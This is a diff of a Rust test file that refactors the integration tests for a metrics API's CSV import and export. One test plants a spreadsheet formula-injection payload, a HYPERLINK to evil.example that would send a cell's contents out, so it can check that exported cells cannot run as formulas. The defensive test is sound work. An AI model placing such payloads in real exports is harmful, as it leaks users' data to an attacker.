@@ -1,6 +1,7 @@
 //! CSV import (all or nothing, bad rows named by line) and export (scoped).
 
 use serde_json::json;
+use test_support::Call;
 use test_support::{Persona, TestApp};
 
 use crate::helpers::{ok_json, problem};
@@ -34,15 +35,11 @@ async fn with_employee_ids(app: &TestApp, org: &test_support::Org) {
         (&org.agent_b1, "E-B1"),
     ] {
         let path = format!("/api/v1/users/{}", persona.id);
-        ok_json(
-            app.as_(&org.admin)
-                .patch(&path, &json!({ "employee_id": employee, "version": 1 }))
-                .send()
-                .await
-                .expect("answers"),
-            200,
-        )
-        .await;
+        app.as_(&org.admin)
+            .patch(&path, &json!({ "employee_id": employee, "version": 1 }))
+            .call()
+            .await
+            .ok(200);
     }
 }
 
@@ -208,15 +205,11 @@ async fn the_export_has_the_import_columns_and_only_the_actors_agents() {
     );
     assert_eq!(export(&org.admin).await.lines().count(), 4);
     assert_eq!(export(&org.leader_b).await.lines().count(), 2);
-    problem(
-        app.as_(&org.admin)
-            .get("/api/v1/metrics/export.csv?from=June")
-            .send()
-            .await
-            .expect("answers"),
-        422,
-    )
-    .await;
+    app.as_(&org.admin)
+        .get("/api/v1/metrics/export.csv?from=June")
+        .call()
+        .await
+        .problem(422);
 }
 
 #[tokio::test]
@@ -262,15 +255,7 @@ async fn a_large_import_can_run_in_the_background_with_progress() {
 
     let mut finished = None;
     for _ in 0..300 {
-        let job = ok_json(
-            app.as_(&org.manager_a)
-                .get(&location)
-                .send()
-                .await
-                .expect("answers"),
-            200,
-        )
-        .await;
+        let job = app.as_(&org.manager_a).get(&location).call().await.ok(200);
         if job["status"] != "RUNNING" {
             finished = Some(job);
             break;
@@ -284,24 +269,12 @@ async fn a_large_import_can_run_in_the_background_with_progress() {
         (json!(600), json!(600))
     );
     assert_eq!(stored_months(&app).await, 600);
-    problem(
-        app.as_(&org.manager_b)
-            .get(&location)
-            .send()
-            .await
-            .expect("answers"),
-        404,
-    )
-    .await;
-    ok_json(
-        app.as_(&org.admin)
-            .get(&location)
-            .send()
-            .await
-            .expect("answers"),
-        200,
-    )
-    .await;
+    app.as_(&org.manager_b)
+        .get(&location)
+        .call()
+        .await
+        .problem(404);
+    app.as_(&org.admin).get(&location).call().await.ok(200);
 }
 
 async fn export(app: &TestApp, who: &Persona) -> String {
@@ -354,26 +327,18 @@ async fn exported_cells_cannot_run_as_formulas_and_import_back_unchanged() {
     let org = app.seed_org().await;
     let formula = r#"=HYPERLINK("http://evil.example/?x="&B2,"open")"#;
     let path = format!("/api/v1/users/{}", org.agent_a1.id);
-    ok_json(
-        app.as_(&org.manager_a)
-            .patch(&path, &json!({ "employee_id": formula, "version": 1 }))
-            .send()
-            .await
-            .expect("answers"),
-        200,
-    )
-    .await;
+    app.as_(&org.manager_a)
+        .patch(&path, &json!({ "employee_id": formula, "version": 1 }))
+        .call()
+        .await
+        .ok(200);
     let metrics = format!("/api/v1/agents/{}/metrics/2025-03", org.agent_a1.id);
-    ok_json(
-        app.as_(&org.leader_a)
-            .request(reqwest::Method::PUT, &metrics)
-            .json(&json!({ "quality_score": 91.5 }))
-            .send()
-            .await
-            .expect("answers"),
-        200,
-    )
-    .await;
+    app.as_(&org.leader_a)
+        .request(reqwest::Method::PUT, &metrics)
+        .json(&json!({ "quality_score": 91.5 }))
+        .call()
+        .await
+        .ok(200);
     let csv = export(&app, &org.admin).await;
     let row = csv
         .lines()
@@ -396,28 +361,20 @@ async fn the_export_imports_back_unchanged_with_the_score_ignored() {
     with_employee_ids(&app, &org).await;
     for (agent, value) in [(&org.agent_a1, 88.0), (&org.agent_a2, 72.5)] {
         let path = format!("/api/v1/agents/{}/metrics/2025-05", agent.id);
-        ok_json(
-            app.as_(&org.leader_a)
-                .request(reqwest::Method::PUT, &path)
-                .json(&json!({ "quality_score": value, "schedule_adherence": 90 }))
-                .send()
-                .await
-                .expect("answers"),
-            200,
-        )
-        .await;
+        app.as_(&org.leader_a)
+            .request(reqwest::Method::PUT, &path)
+            .json(&json!({ "quality_score": value, "schedule_adherence": 90 }))
+            .call()
+            .await
+            .ok(200);
     }
     // An agent without an employee id is found by email.
     let path = format!("/api/v1/users/{}", org.agent_a2.id);
-    ok_json(
-        app.as_(&org.admin)
-            .patch(&path, &json!({ "employee_id": null, "version": 2 }))
-            .send()
-            .await
-            .expect("answers"),
-        200,
-    )
-    .await;
+    app.as_(&org.admin)
+        .patch(&path, &json!({ "employee_id": null, "version": 2 }))
+        .call()
+        .await
+        .ok(200);
     let csv = export(&app, &org.manager_a).await;
     assert!(csv.starts_with("employee_id,email,month,"), "{csv}");
     assert!(csv.lines().next().is_some_and(|h| h.ends_with(",score")));
